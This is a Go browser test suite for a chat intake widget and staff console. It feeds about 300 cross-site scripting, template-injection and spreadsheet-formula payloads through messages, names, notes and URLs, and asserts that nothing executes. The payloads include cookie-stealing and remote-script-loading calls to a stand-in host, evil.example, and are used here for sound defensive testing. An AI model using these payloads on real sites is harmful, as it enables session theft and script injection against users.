package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/url"
	"os"
	"regexp"
	"strings"
	"testing"

	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	"example.org/intake/bot/converse"
)

// payloads are texts that run, load or change something where a page takes them for more than text: each way in with each deed.
func payloads() []string {
	ways := []string{
		"<script>%s</script>", "<SCRIPT SRC=data:,%s></SCRIPT>", "\"><script>%s</script>", "'><script>%s</script>", "</textarea><script>%s</script>", "</title><script>%s</script>",
		"<img src=x onerror=%s>", "<img src=x onerror=\"%s\">", "\"><img src=x onerror=%s>", "' onfocus='%s' autofocus x='", "\" onmouseover=\"%s\" x=\"",
		"<svg onload=%s>", "<svg><script>%s</script></svg>", "<svg><animate onbegin=%s attributeName=x dur=1s>", "<math><mtext><img src=x onerror=%s></mtext></math>",
		"<body onload=%s>", "<iframe srcdoc=\"<script>%s</script>\"></iframe>", "<iframe src=\"javascript:%s\"></iframe>", "<a href=\"javascript:%s\">x</a>", "javascript:%s",
		"[x](javascript:%s)", "![x](x\" onerror=\"%s)", "<details open ontoggle=%s>", "<video><source onerror=%s></video>", "<input autofocus onfocus=%s>",
		"<object data=\"javascript:%s\">", "<embed src=\"javascript:%s\">", "<form action=\"javascript:%s\"><button>x</button></form>", "<style>@import 'javascript:%s'</style>",
		"<link rel=stylesheet href=\"data:text/css,%s\">", "<meta http-equiv=refresh content=\"0;url=javascript:%s\">", "<base href=\"javascript:%s//\">",
		"{{constructor.constructor('%s')()}}", "${%s}", "#{%s}", "<%%= %s %%>", "{{%s}}", "{%% raw %%}%s{%% endraw %%}",
		"<noscript><p title=\"</noscript><img src=x onerror=%s>\">", "<math><style><img src=x onerror=%s></style></math>", "<svg><style><img src=x onerror=%s>",
		"<template><script>%s</script></template>", "<!--<img src=\"--><img src=x onerror=%s>\">", "<![CDATA[<img src=x onerror=%s>]]>", "&lt;img src=x onerror=%s&gt;", "\\u003cimg src=x onerror=%s\\u003e",
		"%%3Cimg src=x onerror=%s%%3E", "&#60;script&#62;%s&#60;/script&#62;", "<scr<script>ipt>%s</scr</script>ipt>", "<img/src=x/onerror=%s>", "<\u200bscript>%s</script>", "＜script＞%s＜/script＞",
		"');%s;//", "\");%s;//", "`;%s;`", "]]>%s", "=HYPERLINK(\"javascript:%s\")", "@SUM(%s)", "+cmd|%s", "-1+%s",
	}
	deeds := []string{"alert(1)", "report('ran')", "import('//evil.example/x.js')", "fetch('//evil.example/'+document.cookie)", "window['al'+'ert'](2)"}
	var all []string
	for _, w := range ways {
		for _, d := range deeds {
			all = append(all, fmt.Sprintf(w, d))
		}
	}
	return all
}

// spy reports everything that must not happen on a page.
const spy = `for (const f of ['alert', 'confirm', 'prompt', 'print']) window[f] = () => report('ran ' + f);
	addEventListener('securitypolicyviolation', (e) => report('policy ' + e.violatedDirective + ' ' + e.blockedURI));`

// guarded opens a tab in which what must not happen is written down.
func guarded(t *testing.T, p page) (*log, page) {
	t.Helper()
	seen := &log{}
	if err := chromedp.Listen(p.ctx, func(ev any) {
		switch e := ev.(type) {
		case *runtime.EventBindingCalled:
			seen.add(e.Payload)
		case *cdppage.EventJavascriptDialogOpening:
			seen.add("dialog " + e.Message)
		}
	}); err != nil {
		t.Fatal(err)
	}
	call(p, runtime.AddBinding, runtime.AddBindingParams{Name: "report"})
	call(p, cdppage.AddScriptToEvaluateOnNewDocument, cdppage.AddScriptToEvaluateOnNewDocumentParams{Source: spy})
	net := &log{}
	p.watch(net)
	t.Cleanup(func() {
		for _, address := range net.urls {
			if u, err := url.Parse(address); err != nil || u.Hostname() == "evil.example" {
				t.Errorf("a request went to %s", address)
			}
		}
	})
	return seen, p
}

// TestNothingIsMoreThanText sends 300 payloads as messages, names, notes and in addresses, through the widget and the pages without script, and
// looks at them in widget, plain pages, console and copies: nothing runs, no policy is broken, and every text is as it was sent.
func TestNothingIsMoreThanText(t *testing.T) {
	t.Parallel()
	browser := newBrowser(t)
	g := startGate(t)
	all := payloads()
	if len(all) < 300 {
		t.Fatalf("%d payloads", len(all))
	}
	thorough := os.Getenv("CI") == "true" // else some of what takes long
	seen, p := guarded(t, fresh(t, browser, "phone"))
	const chunk = 24 // below what one conversation may send at once
	ways := []string{`javascript:alert(1)`, `" onmouseover="alert(1)" x="`, `{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, `Kim";alert(1);"`, `=HYPERLINK("javascript:alert(1)")`}
	var names []string // what was kept of the name in each conversation
	n := 0
	for start := 0; start < len(all); start += chunk {
		part := all[start:min(start+chunk, len(all))]
		p.eval("sessionStorage.clear()")
		p.run("a blank page", chromedp.Navigate("about:blank"))
		p.visit(g.origin + "/chat?lang=en")
		p.submitAll(part)
		p.until("all are stored", fmt.Sprintf("document.querySelectorAll('.mine .words').length === %d && ![...document.querySelectorAll('.mine .meta')].some(e => e.textContent) && document.querySelectorAll('.line').length >= %d", len(part), len(part)))
		p.same("in the widget", "[...document.querySelectorAll('.mine .words')].map(e => e.textContent)", part)
		p.run("loading again", chromedp.Reload())
		p.until("all are back", fmt.Sprintf("document.querySelectorAll('.mine .words').length === %d", len(part)))
		p.same("after loading again", "[...document.querySelectorAll('.mine .words')].map(e => e.textContent)", part)
		p.eval("URL.createObjectURL = b => { b.text().then(t => { window.copied = t; }); return 'blob:none'; }")
		p.eval("document.querySelector('#more').click(); [...document.querySelectorAll('#menu button')].find(b => b.innerText === 'Save a copy').click()")
		p.until("the copy", "window.copied")
		p.holds("the copy", p.eval("window.copied"), part)
		token := p.eval("JSON.parse(sessionStorage.getItem('chat')).token")
		p.holds("the copy without script", postForm(t, g.origin+"/chat/plain/copy", url.Values{"token": {token}, "lang": {"en"}}), part)
		name := ways[start/chunk%len(ways)]
		p.write("I want an appointment")
		p.until("the first step", "document.querySelector('form.step')")
		p.write("for me")
		p.until("the name", stepShown("What should we call you?"))
		p.write(name)
		p.until("the number", stepShown("How can we reach you?"))
		p.write("508 555 0143")
		p.until("the times", stepShown("When is a good time to reach you?"))
		p.until("all skipped", `(() => { if (document.querySelector('.summary')) return true; const b = [...document.querySelectorAll('.line:not(.old) form.step button')].find(b => b.innerText === 'Skip'); if (b) b.click(); return false; })()`)
		p.until("the summary", "document.querySelectorAll('.summary dd').length > 2")
		// Of what is no name the reading keeps at most the word that looks like one; from here on it must stay as it is.
		kept := p.eval("document.querySelectorAll('.summary dd')[2].textContent")
		if kept == "" || !strings.Contains(name, kept) {
			t.Errorf("the name %q is shown as %q", name, kept)
		}
		names = append(names, kept)
		p.tap("Send my request")
		p.see(".booked", "Your request is sent.")
		n += len(part)
	}

	// Without script: the same texts by forms, looked at in the page that answers.
	plain := fresh(t, browser, "phone")
	plainSeen, plain := guarded(t, plain)
	for start := 0; start < len(all); start += chunk {
		part := all[start:min(start+chunk, len(all))]
		plain.run("the plain page", chromedp.Navigate(g.origin+"/chat/plain?lang=en"))
		token := plain.eval("document.querySelector('[name=token]').value")
		for i, text := range part[:len(part)-1] {
			postForm(t, g.origin+"/chat/plain", url.Values{"token": {token}, "lang": {"en"}, "id": {fmt.Sprintf("plain-line-%d", i)}, "text": {text}})
		}
		plain.eval("document.querySelector('#text').value = " + quoteJS(part[len(part)-1]) + "; document.querySelector('form:has(#text) button').click()")
		plain.until("the answer", "document.readyState === 'complete' && document.querySelectorAll('.mine').length >= "+fmt.Sprint(len(part)))
		plain.same("without script", "[...document.querySelectorAll('.mine .words')].map(e => e.textContent)", part)
	}

	// In addresses: they are not shown at all. The last conversation is left behind, or the widget might have it back, payloads and all, before it is looked at.
	p.eval("sessionStorage.clear()")
	p.run("a blank page", chromedp.Navigate("about:blank"))
	for i, text := range all {
		q := url.QueryEscape(text)
		plain.run("an address", chromedp.Navigate(g.origin+"/chat/plain?topic="+q+"&lang="+q))
		if got := plain.eval("document.documentElement.outerHTML.includes(" + quoteJS(text) + ") + document.documentElement.lang"); got != "falseen" {
			t.Errorf("%q in the address is on the page: %s", text, got)
		}
		if !thorough && i%12 != 0 {
			continue
		}
		p.run("an address", chromedp.Navigate(g.origin+"/chat?topic="+q+"&lang="+q+"#"+q))
		if got := p.eval("document.documentElement.outerHTML.includes(" + quoteJS(text) + ") + document.documentElement.lang"); got != "falseen" {
			t.Errorf("%q in the address is in the widget: %s", text, got)
		}
		if i%12 == 0 { // the demo page reads its language as the widget does
			p.run("an address", chromedp.Navigate(g.server.demo+"?lang="+q))
		}
	}

	// In the console: the conversation, the name, and a note with the same texts.
	consoleSeen, console := guarded(t, fresh(t, browser, "desktop"))
	setUpStaff(console, g.server.setup)
	var links []string
	if err := json.Unmarshal([]byte(console.eval(`JSON.stringify([...new Set([...document.querySelectorAll('a[href*="/staff/requests/"]')].map(a => a.href.split('#')[0]))])`)), &links); err != nil || len(links) < len(names) {
		t.Fatalf("%d requests in the console: %v", len(links), err)
	}
	leaves := `(() => { const all = new Set(); const w = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT); while (w.nextNode()) all.add(w.currentNode.data.trim()); return JSON.stringify([...all]); })()`
	looked := 0
	for _, link := range links {
		console.run("a request", chromedp.Navigate(link))
		console.until("the request", "document.querySelector('form[action$=\"/notes\"]')")
		text := console.eval(leaves)
		var shown []string
		if err := json.Unmarshal([]byte(text), &shown); err != nil {
			t.Fatal(err)
		}
		has := map[string]bool{}
		for _, s := range shown {
			has[s] = true
		}
		for start := 0; start < len(all); start += chunk {
			if part := all[start:min(start+chunk, len(all))]; has[part[0]] {
				for _, want := range part {
					if !has[want] {
						t.Errorf("the console does not show %q as it was sent", want)
					}
				}
				looked += len(part)
				if !has[names[start/chunk]] && !strings.Contains(strings.Join(shown, "\n"), names[start/chunk]) {
					t.Errorf("the console does not show the name %q", names[start/chunk])
				}
				note := strings.Join(part, "\n")
				console.eval("document.querySelector('form[action$=\"/notes\"] textarea').value = " + quoteJS(note) + "; document.querySelector('form[action$=\"/notes\"] button').click()")
				console.until("the note as it was written", "document.readyState === 'complete' && [...document.querySelectorAll('.notes .text')].some(e => e.textContent === "+quoteJS(note)+")")
			}
		}
	}
	if looked != len(all) {
		t.Errorf("%d of %d texts were found in the console", looked, len(all))
	}

	// As names: the line stands as it was sent, and what is kept of it is one of its words, in the pages without script, the widget and the console.
	asNames := all
	if !thorough {
		asNames = nil
		for i := 0; i < len(all); i += 13 {
			asNames = append(asNames, all[i])
		}
	}
	p.run("a page of ours", chromedp.Navigate(g.origin+"/chat?lang=en"))
	for i, text := range asNames {
		forms := i%2 == 0
		token, name := nameIn(t, g.origin, text, forms)
		if !strings.Contains(text, name) && name != "Not given" {
			t.Errorf("the name %q became %q", text, name)
		}
		said := `(s => [...document.querySelectorAll(s)].some(e => e.textContent.trim() === ` + quoteJS(text) + `) && [...document.querySelectorAll('dd, h1, h2, bdi, span')].some(e => e.textContent.trim() === ` + quoteJS(name) + `))`
		if forms {
			plain.run("the plain page", chromedp.Navigate(g.origin+"/chat/plain?lang=en"))
			plain.lookAt(token)
			plain.until("the name without script", said+"('.mine .words')")
		} else {
			p.reopen(token)
			p.until("the name in the widget", said+"('.mine .words')")
		}
		id, err := converse.ConversationID(token)
		if err != nil {
			t.Fatal(err)
		}
		console.run("the request", chromedp.Navigate(g.origin+"/staff/requests/"+id))
		if name == "Not given" {
			name = ""
		}
		if shown := console.eval(leaves); !strings.Contains(shown, mustJSON(text)) || !strings.Contains(shown, name) {
			t.Errorf("the console does not show %q, called %q", text, name)
		}
	}
	nothingHappened(t, map[string]*log{"widget": seen, "pages without script": plainSeen, "console": consoleSeen})
	t.Logf("%d payloads as messages in widget and pages without script and in addresses, %d in the console and as notes, %d as names: nothing ran", n, looked, len(asNames))
}

// TestASwapIsNoticed is the other half of the test above: with one text node swapped for markup, what the spy looks for does happen.
func TestASwapIsNoticed(t *testing.T) {
	t.Parallel()
	browser := newBrowser(t)
	g := startGate(t)
	const safe, unsafe = "el('span', { class: 'words' }, text)", "(() => { const s = el('span', { class: 'words' }); s.innerHTML = text; return s; })()"
	g.swap.Store(&[2]string{safe, unsafe})
	seen, p := guarded(t, fresh(t, browser, "phone"))
	p.visit(g.origin + "/chat?lang=en")
	p.eval("document.querySelector('#message').value = '<img src=x onerror=alert(1)>'; document.querySelector('#composer').requestSubmit()")
	p.until("something", "true")
	for range 100 {
		seen.mu.Lock()
		n := len(seen.urls)
		seen.mu.Unlock()
		if n > 0 {
			t.Logf("noticed: %v", seen.urls)
			return
		}
		p.await("new Promise(r => setTimeout(r, 50))")
	}
	t.Error("a swap of textContent for innerHTML is not noticed")
}

func nothingHappened(t *testing.T, seen map[string]*log) {
	t.Helper()
	for where, l := range seen {
		if len(l.urls) > 0 {
			t.Errorf("in the %s this happened: %v", where, l.urls[:min(5, len(l.urls))])
		}
	}
}

// reopen loads the widget again as the tab of a conversation.
func (p page) reopen(token string) {
	p.t.Helper()
	p.eval("sessionStorage.setItem('chat', JSON.stringify({token: " + quoteJS(token) + ", pending: [], told: true}))")
	p.run("loading again", chromedp.Reload())
}

// lookAt leads from a page without script to that of a conversation, which is there once window.before is not.
func (p page) lookAt(token string) {
	p.t.Helper()
	p.eval("window.before = true; document.querySelectorAll('[name=token]').forEach(e => { e.value = " + quoteJS(token) + "; }); (() => { const b = document.querySelector('form:has(#text) button'); b.name = 'look'; b.value = '1'; b.click(); })()")
}

// nameIn goes the whole road with a text as the name, by forms or by the widget's own requests, and gives the token and what was kept of the name.
func nameIn(t *testing.T, origin, name string, forms bool) (token, kept string) {
	t.Helper()
	token = payloadToken(name)
	n, shown := 0, ""
	say := func(text, choice string) {
		t.Helper()
		n++
		form := url.Values{"token": {token}, "lang": {"en"}, "id": {fmt.Sprintf("name-line-%d", n)}, "text": {text}, "choice": {choice}}
		if !forms {
			body, err := json.Marshal(map[string]string{"type": "say", "lang": "en", "id": form.Get("id"), "text": text, "choice": choice})
			if err != nil {
				t.Fatal(err)
			}
			r, err := http.NewRequest(http.MethodPost, origin+"/chat/say", bytes.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			r.Header.Set("Origin", origin)
			r.Header.Set("Authorization", "Bearer "+token)
			res, err := http.DefaultClient.Do(r)
			if err != nil || res.StatusCode != http.StatusOK {
				t.Fatalf("a line was not taken: %v, %v", res, err)
			}
			res.Body.Close()
			form = url.Values{"token": {token}, "lang": {"en"}, "look": {"1"}}
		}
		shown = postForm(t, origin+"/chat/plain", form)
	}
	say("I want an appointment", "")
	say("for me", "")
	say(name, "")
	for range 3 {
		if strings.Contains(shown, "What should we call you?</legend>") {
			say("", "skip")
		}
	}
	say("508 555 0143", "")
	for range 9 {
		if !strings.Contains(shown, "Send my request") {
			say("", "skip")
		}
	}
	rows := regexp.MustCompile(`<dd class="num">([^<]*)</dd>`).FindAllStringSubmatch(shown, -1)
	if len(rows) < 3 {
		t.Fatalf("no summary for the name %q", name)
	}
	kept = html.UnescapeString(rows[1][1])
	say("", "send")
	if !strings.Contains(shown, "Your request is sent.") {
		t.Fatalf("the request with the name %q was not sent", name)
	}
	return token, kept
}

// mustJSON is a text as it stands in JSON, without its quotes.
func mustJSON(text string) string {
	var b bytes.Buffer
	e := json.NewEncoder(&b)
	e.SetEscapeHTML(false) // as JavaScript writes it
	_ = e.Encode(text)     // a text always can be
	text = strings.TrimSpace(b.String())
	return text[1 : len(text)-1]
}

// submitAll sends messages as the composer does.
func (p page) submitAll(texts []string) {
	p.t.Helper()
	data, err := json.Marshal(texts)
	if err != nil {
		p.t.Fatal(err)
	}
	p.eval("for (const t of " + string(data) + ") { document.querySelector('#message').value = t; document.querySelector('#composer').requestSubmit(); }")
}

// same compares what a script gives with texts.
func (p page) same(where, script string, want []string) {
	p.t.Helper()
	var got []string
	if err := json.Unmarshal([]byte(p.eval("JSON.stringify("+script+")")), &got); err != nil {
		p.t.Fatal(err)
	}
	for i := range want {
		if i >= len(got) || got[i] != want[i] {
			p.t.Errorf("%s %q became %q", where, want[i], got[min(i, len(got)-1)])
		}
	}
}

func (p page) holds(where, text string, want []string) {
	p.t.Helper()
	for _, w := range want {
		if !strings.Contains(text, "\n"+w+"\r\n") {
			p.t.Errorf("%s does not hold %q as it was sent", where, w)
		}
	}
}

func postForm(t *testing.T, address string, form url.Values) string {
	t.Helper()
	res, err := http.PostForm(address, form)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil || res.StatusCode != http.StatusOK {
		t.Fatalf("%s: %d, %v", address, res.StatusCode, err)
	}
	return string(body)
}
